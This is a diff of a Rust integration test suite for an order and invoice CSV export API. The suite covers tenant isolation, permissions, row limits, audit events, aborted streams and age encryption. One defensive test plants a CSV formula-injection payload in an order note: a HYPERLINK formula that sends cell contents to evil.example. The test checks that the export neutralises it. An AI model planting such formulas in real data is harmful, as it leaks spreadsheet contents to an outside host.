@@ -1,24 +1,26 @@
-//! The books as a file (CRYPTO-09): whose rows, how many, for whom to read, and who is told.
+//! Exports (CRYPTO-09): contents and rights, limits, events, interruption, and encryption for a
+//! recipient.
 
 use std::io::Read as _;
 
 use http::Method;
-use secrecy::ExposeSecret as _;
 use serde_json::{Value, json};
 use service::authz::{matrix::Scope, policy::Role};
 use sqlx::AssertSqlSafe;
 
-use crate::support::{ACME, Actor, Books, Fields, GLOBEX, Reply, TestApp, binary, eventually, superuser};
+use crate::support::{
+    ACME, Actor, BillingFixture, Fields, GLOBEX, Reply, TestApp, eventually, id, incident, order_body, superuser,
+};
 
-fn everything(kind: &str) -> Value {
+fn all_time(kind: &str) -> Value {
     json!({ "kind": kind, "from": "2020-01-01T00:00:00Z", "to": "2100-01-01T00:00:00Z" })
 }
 
-async fn export(actor: &Actor, wanted: &Value) -> Reply {
-    actor.post("/v1/exports", wanted).await
+async fn export(actor: &Actor, request: &Value) -> Reply {
+    actor.post("/v1/exports", request).await
 }
 
-/// Each line, as its cells by name.
+/// The rows of a CSV file, as cells by column.
 fn rows(csv: &str) -> Vec<std::collections::HashMap<String, String>> {
     csv::Reader::from_reader(csv.as_bytes()).deserialize().map(Result::unwrap).collect()
 }
@@ -27,9 +29,9 @@ fn export_events(reply: &Reply) -> Vec<Fields> {
     reply.events().into_iter().filter(|event| event["event"].starts_with("data_export")).collect()
 }
 
-/// So many orders of Acme, one a second until a day ago, beside those that are there.
-async fn many_orders(app: &TestApp, orders: u32) {
-    let add = format!(
+/// Adds this many orders to Acme, one per second until a day ago.
+async fn add_orders(app: &TestApp, orders: u32) {
+    let insert = format!(
         "begin; set local session_replication_role = replica; set local app.tenant_id = '{}';
          insert into orders (tenant_id, id, status, shipping_speed, note, total_amount, total_currency, created_by,
                              created_at, updated_at)
@@ -39,29 +41,30 @@ async fn many_orders(app: &TestApp, orders: u32) {
          commit; analyze orders",
         ACME.id
     );
-    sqlx::raw_sql(AssertSqlSafe(add)).execute(&mut superuser(&app.database).await).await.unwrap();
+    sqlx::raw_sql(AssertSqlSafe(insert)).execute(&mut superuser(&app.database).await).await.unwrap();
 }
 
 #[tokio::test]
-async fn crypto_09_an_export_holds_the_rows_of_a_period_of_the_callers_tenant() {
+async fn crypto_09_export_contains_the_period_of_the_callers_tenant() {
     let app = TestApp::start().await;
-    let (auditor, admin) = (app.user(Role::Auditor), app.user(Role::Admin));
+    let auditor = app.user(Role::Auditor);
+    let admin = app.user(Role::Admin);
     let globex = app.user_of(&GLOBEX, Role::Admin, &Scope::ALL);
-    let theirs = globex.get("/v1/orders?limit=100").await.ok(200);
+    let globex_orders = globex.get("/v1/orders?limit=100").await.ok(200);
     let listed = admin.get("/v1/orders?limit=100").await.ok(200);
     let ids = |page: &Value| -> Vec<String> {
         page["items"].as_array().unwrap().iter().map(|order| order["id"].as_str().unwrap().to_owned()).collect()
     };
-    let (ours, theirs) = (ids(&listed), ids(&theirs));
-    assert!(ours.len() > 1 && !theirs.is_empty());
+    let acme_ids = ids(&listed);
+    assert!(acme_ids.len() > 1 && !ids(&globex_orders).is_empty());
     for actor in [&auditor, &admin] {
-        let reply = export(actor, &everything("orders")).await;
+        let reply = export(actor, &all_time("orders")).await;
         assert_eq!(reply.status, 200, "{reply:#?}");
         assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
         assert_eq!(reply.header("content-disposition"), Some("attachment; filename=\"orders.csv\""));
         assert_eq!(reply.header("cache-control"), Some("no-store"));
         let exported = rows(&reply.text);
-        assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), ours);
+        assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), acme_ids);
         let first = &listed["items"][0];
         assert_eq!(exported[0]["totalAmount"], first["total"]["amount"].to_string());
         assert_eq!(exported[0]["status"], first["status"].as_str().unwrap());
@@ -69,26 +72,26 @@ async fn crypto_09_an_export_holds_the_rows_of_a_period_of_the_callers_tenant() 
         let lines = format!("{} x {}", line["quantity"], line["sku"].as_str().unwrap());
         assert!(exported[0]["lines"].starts_with(&lines), "{exported:?}");
     }
-    // A part of the time, to the moment: what begins it counts, what ends it does not.
-    let at = |n: usize| listed["items"][n]["createdAt"].clone();
-    let (newest, oldest) = (at(0), at(ours.len() - 1));
+    // A period includes its beginning and excludes its end.
+    let newest = &listed["items"][0]["createdAt"];
+    let oldest = &listed["items"][acme_ids.len() - 1]["createdAt"];
     let part = json!({ "kind": "orders", "from": oldest, "to": newest });
     let exported = rows(&export(&auditor, &part).await.text);
-    assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), ours[1..]);
+    assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), acme_ids[1..]);
     let none = json!({ "kind": "orders", "from": "2001-01-01T00:00:00Z", "to": "2001-01-02T00:00:00Z" });
     let reply = export(&auditor, &none).await;
     assert!(reply.text.starts_with("id,customerId,") && rows(&reply.text).is_empty(), "{}", reply.text);
-    let back = json!({ "kind": "orders", "from": newest, "to": newest });
-    assert_eq!(export(&auditor, &back).await.faults(), ["/to not_after_from"]);
+    let empty = json!({ "kind": "orders", "from": newest, "to": newest });
+    assert_eq!(export(&auditor, &empty).await.faults(), ["/to not_after_from"]);
 }
 
 #[tokio::test]
-async fn crypto_09_invoices_are_exported_with_what_came_and_went() {
+async fn crypto_09_invoice_export_contains_payments_and_totals() {
     let app = TestApp::start().await;
-    let books = Books::of(&app);
-    let order = books.order("PEN-BLUE", 2).await;
-    let issued = books.issue(&order).await.ok(201);
-    let exported = rows(&export(&app.user(Role::Auditor), &everything("invoices")).await.text);
+    let fixture = BillingFixture::new(&app);
+    let order = fixture.order("PEN-BLUE", 2).await;
+    let issued = fixture.issue(&order).await.ok(201);
+    let exported = rows(&export(&app.user(Role::Auditor), &all_time("invoices")).await.text);
     let row = exported.iter().find(|row| row["id"] == issued["id"].as_str().unwrap()).unwrap();
     assert_eq!((row["status"].as_str(), row["paidAmount"].as_str()), ("open", "0"));
     assert_eq!(row["number"], issued["number"].to_string());
@@ -96,48 +99,48 @@ async fn crypto_09_invoices_are_exported_with_what_came_and_went() {
 }
 
 #[tokio::test]
-async fn crypto_09_what_a_spreadsheet_would_run_is_exported_as_a_text() {
+async fn crypto_09_csv_formulas_are_neutralised() {
     let app = TestApp::start().await;
     let formula = "=HYPERLINK(\"https://evil.example/?\"&A1)";
-    let line = json!({ "sku": "PEN-BLUE", "quantity": 1 });
-    let order = json!({ "lines": [line], "shippingSpeed": "standard", "note": formula });
-    let id = app.user(Role::Sales).post("/v1/orders", &order).await.ok(201)["id"].as_str().unwrap().to_owned();
-    let exported = rows(&export(&app.user(Role::Auditor), &everything("orders")).await.text);
+    let mut order = order_body("PEN-BLUE", 1);
+    order["note"] = json!(formula);
+    let id = id(&app.user(Role::Sales).post("/v1/orders", &order).await.ok(201));
+    let exported = rows(&export(&app.user(Role::Auditor), &all_time("orders")).await.text);
     let row = exported.iter().find(|row| row["id"] == id).unwrap();
     assert_eq!(row["note"], format!("'{formula}"));
 }
 
 #[tokio::test]
-async fn crypto_09_only_auditors_and_administrators_export_and_no_program_does() {
+async fn crypto_09_export_needs_scope_and_permission() {
     let app = TestApp::start().await;
     for role in [Role::Viewer, Role::Sales, Role::Billing] {
-        let reply = export(&app.user(role), &everything("orders")).await;
+        let reply = export(&app.user(role), &all_time("orders")).await;
         assert_eq!(reply.problem(403), "forbidden");
         assert!(reply.events().iter().any(|event| event["event"] == "authz_fail"), "{role:?}");
     }
     let without = Scope::ALL.into_iter().filter(|scope| *scope != Scope::ExportsCreate).collect::<Vec<_>>();
-    let reply = export(&app.user_of(&ACME, Role::Auditor, &without), &everything("orders")).await;
+    let reply = export(&app.user_of(&ACME, Role::Auditor, &without), &all_time("orders")).await;
     assert_eq!(reply.problem(403), "insufficient_scope");
     assert!(!Scope::ExportsCreate.is_for_keys());
 }
 
 #[tokio::test]
-async fn crypto_09_more_rows_than_may_be_are_refused_before_the_first() {
+async fn crypto_09_export_over_the_row_limit_is_rejected() {
     let app = TestApp::start_with(&[("APP_EXPORTS__MAX_ROWS", "2000")]).await;
     let auditor = app.user(Role::Auditor);
-    many_orders(&app, 2_001).await;
-    let reply = export(&auditor, &everything("orders")).await;
+    add_orders(&app, 2_001).await;
+    let reply = export(&auditor, &all_time("orders")).await;
     assert_eq!(reply.faults(), ["/from too_many_rows"]);
     assert_eq!(export_events(&reply), Vec::<Fields>::new());
-    export(&auditor, &everything("invoices")).await.ok(200);
+    export(&auditor, &all_time("invoices")).await.ok(200);
 }
 
 #[tokio::test]
-async fn crypto_09_who_took_how_many_rows_is_told_even_of_a_part() {
+async fn crypto_09_export_events_count_the_rows_even_of_a_partial_export() {
     let app = TestApp::start().await;
-    many_orders(&app, 60_000).await;
+    add_orders(&app, 60_000).await;
     let auditor = app.user(Role::Auditor);
-    let reply = export(&auditor, &everything("orders")).await;
+    let reply = export(&auditor, &all_time("orders")).await;
     let all = rows(&reply.text).len();
     assert!(all > 60_000, "{all}");
     eventually("both events", async || export_events(&reply).len() == 2).await;
@@ -148,33 +151,32 @@ async fn crypto_09_who_took_how_many_rows_is_told_even_of_a_part() {
         assert_eq!((event["what"].as_str(), event["subject"].as_str()), ("orders", "auditor@acme.example"));
         assert_eq!(event["rows"], all.to_string());
     }
-    // Who has read enough goes away.
-    let wanted = everything("orders");
-    let mut response = auditor.request(Method::POST, "/v1/exports").json(&wanted).send().await.unwrap();
+    // The client disconnects after the first chunk.
+    let mut response = auditor.request(Method::POST, "/v1/exports").json(&all_time("orders")).send().await.unwrap();
     let headers = response.headers().clone();
     response.chunk().await.unwrap().unwrap();
     drop(response);
     let reply = Reply { status: http::StatusCode::OK, headers, text: String::new(), body: Value::Null };
-    eventually("the end of the part", async || export_events(&reply).len() == 2).await;
+    eventually("the event of the partial export", async || export_events(&reply).len() == 2).await;
     let part = &export_events(&reply)[1];
     assert_eq!(part["complete"], "false");
-    let taken: usize = part["rows"].parse().unwrap();
-    assert!(0 < taken && taken < all, "{taken} of {all}");
+    let exported: usize = part["rows"].parse().unwrap();
+    assert!(0 < exported && exported < all, "{exported} of {all}");
 }
 
-/// An export that is broken off after its first piece, by what is done then. Otherwise a part would be taken for the whole.
-async fn breaks_off(app: &TestApp, then: impl AsyncFnOnce()) {
-    many_orders(app, 60_000).await;
+/// Checks that an interruption after the first chunk aborts the response: a normal end would make a
+/// partial export look complete.
+async fn assert_aborted(app: &TestApp, interrupt: impl AsyncFnOnce()) {
+    add_orders(app, 60_000).await;
     let auditor = app.user(Role::Auditor);
-    let wanted = everything("orders");
-    let mut response = auditor.request(Method::POST, "/v1/exports").json(&wanted).send().await.unwrap();
+    let mut response = auditor.request(Method::POST, "/v1/exports").json(&all_time("orders")).send().await.unwrap();
     assert_eq!(response.status(), 200);
     response.chunk().await.unwrap().unwrap();
-    then().await;
+    interrupt().await;
     let error = loop {
         match response.chunk().await {
             Ok(Some(_)) => {}
-            Ok(None) => panic!("it ended as if it were whole"),
+            Ok(None) => panic!("the response ended like a complete one"),
             Err(error) => break error,
         }
     };
@@ -182,44 +184,38 @@ async fn breaks_off(app: &TestApp, then: impl AsyncFnOnce()) {
 }
 
 #[tokio::test]
-async fn crypto_09_an_export_that_fails_on_the_way_breaks_off() {
+async fn crypto_09_failed_export_is_aborted() {
     let app = TestApp::start().await;
     let fail = async || {
         let revoke = "revoke select on orders from app_reader";
         sqlx::raw_sql(revoke).execute(&mut superuser(&app.database).await).await.unwrap();
     };
-    breaks_off(&app, fail).await;
+    assert_aborted(&app, fail).await;
 }
 
 #[tokio::test]
-async fn crypto_09_rows_that_are_added_on_the_way_do_not_pass_the_limit() {
+async fn crypto_09_rows_added_during_an_export_do_not_exceed_the_limit() {
     let app = TestApp::start_with(&[("APP_EXPORTS__MAX_ROWS", "60100")]).await;
-    breaks_off(&app, async || many_orders(&app, 60_000).await).await;
+    assert_aborted(&app, async || add_orders(&app, 60_000).await).await;
 }
 
 #[tokio::test]
-async fn crypto_09_an_export_ends_when_its_caller_is_revoked() {
+async fn crypto_09_export_is_aborted_when_its_caller_is_revoked() {
     let app = TestApp::start().await;
-    let revoke = async || {
-        let mut incident = binary();
-        incident.args(["incident", "revoke", "--reason", "a test", "subject", "auditor@acme.example"]);
-        let url = app.database.operator.expose_secret();
-        let done = incident.env("APP_PROFILE", "development").env("APP_DATABASE__OPERATOR_URL", url).output().unwrap();
-        assert!(done.status.success(), "{done:?}");
-    };
-    breaks_off(&app, revoke).await;
+    let revoke = async || incident(&app.database, &["revoke", "subject", "auditor@acme.example"]);
+    assert_aborted(&app, revoke).await;
 }
 
 #[tokio::test]
-async fn crypto_09_an_export_for_somebody_is_read_by_nobody_else() {
+async fn crypto_09_export_is_encrypted_for_the_recipient() {
     let app = TestApp::start().await;
-    many_orders(&app, 1_500).await;
+    add_orders(&app, 1_500).await;
     let auditor = app.user(Role::Auditor);
     let identity = age::x25519::Identity::generate();
-    let mut wanted = everything("orders");
-    let plain = export(&auditor, &wanted).await.text;
-    wanted["recipient"] = json!(identity.to_public().to_string());
-    let response = auditor.request(Method::POST, "/v1/exports").json(&wanted).send().await.unwrap();
+    let mut request = all_time("orders");
+    let plain = export(&auditor, &request).await.text;
+    request["recipient"] = json!(identity.to_public().to_string());
+    let response = auditor.request(Method::POST, "/v1/exports").json(&request).send().await.unwrap();
     assert_eq!(response.headers()["content-type"], "application/octet-stream");
     assert_eq!(response.headers()["content-disposition"], "attachment; filename=\"orders.csv.age\"");
     let file = response.bytes().await.unwrap();
@@ -231,10 +227,10 @@ async fn crypto_09_an_export_for_somebody_is_read_by_nobody_else() {
     };
     assert_eq!(decrypt(&identity).unwrap(), plain);
     assert!(decrypt(&age::x25519::Identity::generate()).is_err());
-    // A letter wrong, and of another kind of key.
+    // A wrong checksum, and a key of another kind.
     let wrong = format!("age1{}", "q".repeat(58));
-    wanted["recipient"] = json!(wrong);
-    assert_eq!(export(&auditor, &wanted).await.faults(), ["/recipient invalid"]);
-    wanted["recipient"] = json!("ssh-ed25519 AAAA");
-    assert_eq!(export(&auditor, &wanted).await.problem(400), "invalid_input");
+    request["recipient"] = json!(wrong);
+    assert_eq!(export(&auditor, &request).await.faults(), ["/recipient invalid"]);
+    request["recipient"] = json!("ssh-ed25519 AAAA");
+    assert_eq!(export(&auditor, &request).await.problem(400), "invalid_input");
 }
